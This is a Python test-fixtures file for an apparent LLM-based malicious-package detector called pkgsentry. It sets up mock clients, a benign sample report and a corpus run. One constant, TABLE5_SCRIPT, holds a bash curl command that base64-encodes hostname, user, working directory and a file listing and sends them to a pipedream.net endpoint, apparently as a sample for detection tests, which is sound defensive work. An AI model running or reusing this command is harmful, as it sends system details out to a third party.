from __future__ import annotations

import json
from pathlib import Path

import pytest

from pkgsentry.corpus import SourceFile, load_manifest
from pkgsentry.llmclient import CostLedger, LLMClient, MockBackend
from pkgsentry.prompts import load_profile
from pkgsentry.workflow import run_pipeline, write_run_artifact

REPO_ROOT = Path(__file__).resolve().parents[1]
FIXTURES = REPO_ROOT / "fixtures"

TABLE5_SCRIPT = (
    "#!/bin/bash\n"
    'curl -H "Hostname: $(hostname | base64)" -H "Whoami: $(whoami | base64)" '
    '-H "Pwd: $(pwd | base64)" -d $(ls -la | base64) '
    "https://eo1z2prk4as56mb.m.pipedream.net\n"
)

CLEAN_REPORT = {
    "purpose": "Formats byte counts for humans.",
    "sources": "Function arguments only.",
    "sinks": "Return value only.",
    "flows": "No source-to-sink flows.",
    "anomalies": "None observed.",
    "analysis": "Pure arithmetic over the input.",
    "conclusion": "Benign utility code.",
    "confidence": 0.9,
    "obfuscated": 0.0,
    "malware": 0.0,
    "securityRisk": 0.0,
}


def source_file(path: str, content: str) -> SourceFile:
    return SourceFile.from_bytes(path, content.encode("utf-8"))


@pytest.fixture(scope="session")
def corpus_manifest():
    return load_manifest(FIXTURES / "manifest.jsonl")


@pytest.fixture(scope="session")
def corpus_expected():
    return json.loads((FIXTURES / "expected.json").read_text(encoding="utf-8"))


def mock_client(profile=None) -> LLMClient:
    profile = profile or load_profile("gpt3")
    ledger = CostLedger()
    ledger.register_model(profile)
    return LLMClient(backend=MockBackend(), ledger=ledger)


@pytest.fixture(scope="session")
def corpus_run_dir(tmp_path_factory, corpus_manifest):
    """A full-mode mock run over the shipped corpus, written once per session."""
    profile = load_profile("gpt3")
    result = run_pipeline(
        corpus_manifest,
        mode="full",
        profile=profile,
        client=mock_client(profile),
        backend_name="mock",
    )
    out = tmp_path_factory.mktemp("run-full")
    write_run_artifact(result, out)
    return out
